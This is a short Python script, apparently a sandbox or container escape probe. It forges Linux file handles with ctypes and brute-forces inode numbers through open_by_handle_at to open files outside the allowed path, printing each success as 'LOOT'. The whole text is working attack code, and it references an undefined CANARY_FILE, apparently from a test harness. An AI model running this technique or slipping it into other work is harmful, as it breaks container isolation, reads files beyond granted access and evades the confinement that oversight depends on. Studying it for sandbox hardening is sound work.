"""Open the file by its number in the file system instead of its name.

"""
import ctypes
import os

libc = ctypes.CDLL(None)
handle = (ctypes.c_char * 136)()
ctypes.c_uint.from_buffer(handle).value = 128
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, CANARY_FILE.encode(), handle, ctypes.byref(mount), 0) == 0:
    print("LOOT: a handle", bytes(handle)[:40])
for number in range(2, 40):  # a handle made up: inode `number` of the root folder's file system
    ctypes.c_uint.from_buffer(handle).value = 8
    ctypes.c_int.from_buffer(handle, 4).value = 1
    ctypes.c_uint64.from_buffer(handle, 8).value = number
    opened = libc.open_by_handle_at(3, handle, os.O_RDONLY)
    if opened >= 0:
        print("LOOT: opened inode", number)
